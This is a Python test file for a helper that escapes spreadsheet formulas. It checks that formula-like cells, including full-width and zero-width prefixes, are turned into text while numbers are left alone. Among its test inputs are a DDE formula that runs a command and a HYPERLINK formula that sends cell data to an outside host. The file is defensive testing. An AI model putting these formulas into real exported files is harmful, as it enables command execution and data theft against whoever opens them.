"""Text that a spreadsheet opens is shown and never calculated; numbers stay numbers."""

import pandas as pd
import pytest

from analysis.spreadsheet import escape_formula, escape_formulas


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ('=HYPERLINK("http://x.cn/?"&A1,"看")', '\'=HYPERLINK("http://x.cn/?"&A1,"看")'),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1+1", "'－1+1"),
        ("＠SUM(A1)", "'＠SUM(A1)"),
        ("﹦1", "'﹦1"),
        (" =1+1", "' =1+1"),
        ("\u3000＝1", "'\u3000＝1"),
        ("\u200b=1", "'\u200b=1"),
        ("a;=1+1", "a;'=1+1"),
        ("a\n=1+1", "a\n'=1+1"),
        ("-5.2", "-5.2"),
        ("+3", "+3"),
        ("1,000", "1,000"),
        ("-1.5e-3", "-1.5e-3"),
        ("—", "—"),
        ("a=b", "a=b"),
        ("浙江省;江苏省", "浙江省;江苏省"),
        ("", ""),
        (7, 7),
        (None, None),
    ],
)
def test_a_cell_that_a_spreadsheet_would_calculate_is_text(cell, written):
    assert escape_formula(cell) == written
    assert escape_formula(written) == written


def test_cells_of_a_frame_are_escaped_and_numbers_stay():
    frame = pd.DataFrame({"row": [1, 2], "printed": ["=1+1", "-5"], "reason": ["@x", "fine"]})
    assert escape_formulas(frame).values.tolist() == [[1, "'=1+1", "'@x"], [2, "-5", "fine"]]
